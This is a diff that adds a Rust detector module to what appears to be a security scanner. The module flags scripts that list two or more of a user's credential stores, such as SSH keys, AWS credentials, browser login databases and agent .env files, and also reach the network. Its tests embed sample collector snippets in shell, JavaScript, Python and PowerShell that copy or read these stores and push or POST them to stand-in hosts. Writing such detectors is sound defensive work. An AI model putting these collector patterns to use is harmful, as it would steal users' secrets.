@@ -1,0 +1,221 @@
+//! Harvest lists: a script that names several of the user's credential
+//! stores as data — a list of paths it loops over (`for f in .ssh/id_rsa
+//! .aws/credentials …`, `[".openclaw/.env", ".clawdbot/.env"]`), a glob
+//! over browser profiles (`f"{root}/*/Login Data"`) — and also talks to the
+//! network. Each path is read through a variable, so no extractor sees a
+//! read of a literal path; the list itself is the evidence. One such path is
+//! ordinary (a tool reading its own token); two or more distinct stores in a
+//! file that reaches the network is the collector shape, in any language.
+
+use super::indicators::{URL_RE, classify_path};
+use super::{Sink, Src};
+use crate::evidence::{Evidence, Op, Tag};
+use crate::ssl::vocab::{ActType as A, ResourceScope as R};
+use regex::Regex;
+use std::collections::BTreeMap;
+use std::sync::LazyLock;
+
+/// Distinct stores a file must name before it counts as a harvest list.
+const MIN_STORES: usize = 2;
+/// At most this many paths are reported per file.
+const MAX_REPORTED: usize = 8;
+
+/// A home prefix in any spelling: `~`, `$HOME`, `${HOME}`, `$u`, `{home}`,
+/// `%USERPROFILE%`, `$env:USERPROFILE`, `os.homedir()` joined by the caller.
+static HOME_PREFIX: LazyLock<Regex> = LazyLock::new(|| {
+    crate::rx::re(
+        r"^(~|\$\{?[A-Za-z_]\w*\}?|\{[A-Za-z_]\w*\}|%[A-Za-z_]\w*%|\$env:[A-Za-z_]\w*)[/\\]",
+    )
+});
+
+/// Browser store names distinctive enough to count without a folder.
+const BROWSER_NAMES: &[&str] = &[
+    "Login Data",
+    "Local State",
+    "logins.json",
+    "key4.db",
+    "cookies.sqlite",
+];
+
+static GIT_PUSH: LazyLock<Regex> = LazyLock::new(|| crate::rx::re(r"\bgit\b[^\n]*\spush\b"));
+
+/// Bare words of shell lists (`for f in .ssh/id_rsa .aws/credentials; do`).
+static BARE: LazyLock<Regex> = LazyLock::new(|| crate::rx::re(r#"[^\s"'`,;()\[\]|&<>=]{3,200}"#));
+
+/// The path a candidate names, home-relative when it starts at a dot
+/// folder (`.openclaw/.env` joined to the home directory by the code).
+fn as_home_path(lit: &str) -> Option<String> {
+    let s = lit.trim().replace('\\', "/");
+    if s.contains("://") || s.len() > 200 {
+        return None;
+    }
+    let rest = match HOME_PREFIX.find(&s) {
+        Some(m) => s[m.end()..].to_string(),
+        None => s.clone(),
+    };
+    let rest = rest.trim_start_matches('/');
+    if BROWSER_NAMES.iter().any(|n| rest.ends_with(n)) {
+        return Some(format!("~/{rest}"));
+    }
+    // A folder is needed: `.env` or `credentials.json` alone is the
+    // project's own file.
+    (rest.starts_with('.') && !rest.starts_with("./") && rest.contains('/'))
+        .then(|| format!("~/{rest}"))
+        .or_else(|| (s.starts_with('~') || HOME_PREFIX.is_match(&s)).then(|| format!("~/{rest}")))
+}
+
+/// `credentials.json`, `secrets.yaml`, `.env`: some application's own
+/// file, named by its folder (`~/.config/moltbook/credentials.json`).
+static GENERIC_NAME: LazyLock<Regex> = LazyLock::new(|| {
+    crate::rx::re(
+        r"(?i)^(credentials(\.json|\.ya?ml)?|secrets?\.(json|ya?ml|toml|env)|\.env(\.[\w.-]+)?)$",
+    )
+});
+/// Folders of well-known tools whose generic-named file is theirs.
+const KNOWN_DIRS: &[&str] = &[
+    "/.aws/",
+    "/.docker/",
+    "/.terraform.d/",
+    "/.azure/",
+    "/gcloud/",
+];
+
+/// A credential store of another tool or of the user (not the project's
+/// `.env`, not an application's own `credentials.json`).
+fn is_store(path: &str, tags: &std::collections::BTreeSet<Tag>) -> bool {
+    if tags.contains(&Tag::AgentConfig)
+        || tags.contains(&Tag::BrowserStore)
+        || tags.contains(&Tag::Wallet)
+    {
+        return true;
+    }
+    if !tags.contains(&Tag::SecretPath) || tags.contains(&Tag::ProjectEnv) {
+        return false;
+    }
+    !GENERIC_NAME.is_match(base_name(path)) || KNOWN_DIRS.iter().any(|d| path.contains(d))
+}
+
+fn base_name(path: &str) -> &str {
+    path.rsplit('/').next().unwrap_or(path)
+}
+
+/// Whether the file reaches the network: a URL that is not local, or a
+/// `git push`.
+fn reaches_network(text: &str) -> bool {
+    GIT_PUSH.is_match(text)
+        || URL_RE.find_iter(text).any(|m| {
+            let u = m.as_str();
+            !(u.contains("://localhost") || u.contains("://127.0.0.1") || u.contains("://0.0.0.0"))
+        })
+}
+
+/// Candidate spans: quoted literals and bare words.
+fn candidates(text: &str) -> Vec<(usize, usize)> {
+    let mut out = super::tokens::literals(text);
+    out.extend(BARE.find_iter(text).map(|m| (m.start(), m.end())));
+    out
+}
+
+pub fn scan(src: &Src, sink: &mut Sink) {
+    let text = src.text;
+    if !reaches_network(text) {
+        return;
+    }
+    // normalized path → first span naming it
+    let mut stores: BTreeMap<String, (usize, usize, std::collections::BTreeSet<Tag>)> =
+        BTreeMap::new();
+    for (start, end) in candidates(text) {
+        let Some(p) = text.get(start..end).and_then(as_home_path) else {
+            continue;
+        };
+        let (scope, tags) = classify_path(&p);
+        if scope == R::Credentials && is_store(&p, &tags) {
+            stores.entry(p).or_insert((start, end, tags));
+        }
+    }
+    // Two spellings of one file (`~/.clawdbot/agents/main/agent/auth-profiles.json`
+    // or `~/.clawdbot/agent/auth-profiles.json`) are one store.
+    let names: std::collections::BTreeSet<&str> = stores.keys().map(|p| base_name(p)).collect();
+    if names.len() < MIN_STORES {
+        return;
+    }
+    // Paths an extractor already reports as read in this file.
+    let known: std::collections::BTreeSet<String> = sink
+        .items
+        .iter()
+        .filter(|e| e.location.path == src.path && e.op == Op::FileRead)
+        .map(|e| super::indicators::normalize_path(&e.target))
+        .collect();
+    stores.retain(|p, _| !known.contains(p));
+    let mut spans: Vec<(String, (usize, usize, std::collections::BTreeSet<Tag>))> =
+        stores.into_iter().collect();
+    spans.sort_by_key(|(p, (s, _, _))| (*s, p.clone()));
+    for (p, (start, end, tags)) in spans.into_iter().take(MAX_REPORTED) {
+        let ev = Evidence::new(Op::FileRead, A::Read, R::Credentials, p)
+            .tags(tags)
+            .instrument("path list")
+            .object("credential store in a collection list");
+        sink.push(src.at(ev, start, end, "code"));
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::evidence::Origin;
+
+    fn run(path: &str, text: &str) -> Vec<String> {
+        let mut sink = Sink::default();
+        scan(&Src::new(path, text, Origin::Script), &mut sink);
+        sink.items.iter().map(|e| e.target.clone()).collect()
+    }
+
+    #[test]
+    fn a_shell_for_list_of_stores_is_a_harvest() {
+        let sh = "for f in .openclaw/.env .ssh/id_rsa .kube/config; do\n  cp \"$HOME/$f\" \"$B/$f\"\ndone\ngit -C \"$B\" push origin main\n";
+        let t = run("b.sh", sh);
+        assert_eq!(t.len(), 3, "{t:?}");
+        assert!(t.contains(&"~/.ssh/id_rsa".to_string()));
+    }
+
+    #[test]
+    fn js_array_python_glob_and_powershell_paths_count() {
+        let js = "for (const p of ['.openclaw/.env', '.openclaw/openclaw.json']) { read(path.join(home, p)); }\nfetch('https://metrics.example.net/in', {method: 'POST'});\n";
+        assert_eq!(run("w.js", js).len(), 2);
+        let py = "for db in glob.glob(f\"{root}/*/Login Data\") + glob.glob(f\"{root}/*/Network/Cookies\"):\n    pass\nrequests.post('https://stats.example.com/v1')\n";
+        assert_eq!(run("x.py", py).len(), 2);
+        let ps = "$files = @(\"$u\\.git-credentials\", \"$u\\.aws\\credentials\")\nInvoke-RestMethod -Uri 'https://sync.example.com/api' -Method Post\n";
+        assert_eq!(run("s.ps1", ps).len(), 2);
+    }
+
+    #[test]
+    fn one_store_a_project_env_or_no_network_is_quiet() {
+        // One named token file: a tool reading its own credential.
+        assert!(
+            run(
+                "a.sh",
+                "T=$(cat ~/.config/gh/hosts.yml)\ncurl -H \"x: $T\" https://api.github.com\n"
+            )
+            .is_empty()
+        );
+        // The project's own .env and credentials.json.
+        assert!(
+            run(
+                "b.py",
+                "load('.env'); open('credentials.json')\nrequests.get('https://api.example.com')\n"
+            )
+            .is_empty()
+        );
+        // Two places of one file, and applications' own credential files.
+        assert!(run("d.js", "[path.join(h, '.clawdbot/agents/main/agent/auth-profiles.json'), path.join(h, '.clawdbot/agent/auth-profiles.json')]\nfetch('https://oauth2.googleapis.com/token')\n").is_empty());
+        assert!(run("e.py", "load('~/.config/moltbook/credentials.json'); load('~/.config/clawfee/credentials.json')\nrequests.get('https://www.moltbook.com/api')\n").is_empty());
+        // A checker that lists stores but never reaches the network.
+        assert!(
+            run(
+                "c.sh",
+                "for f in ~/.ssh/id_rsa ~/.aws/credentials; do stat -c %a \"$f\"; done\n"
+            )
+            .is_empty()
+        );
+    }
+}
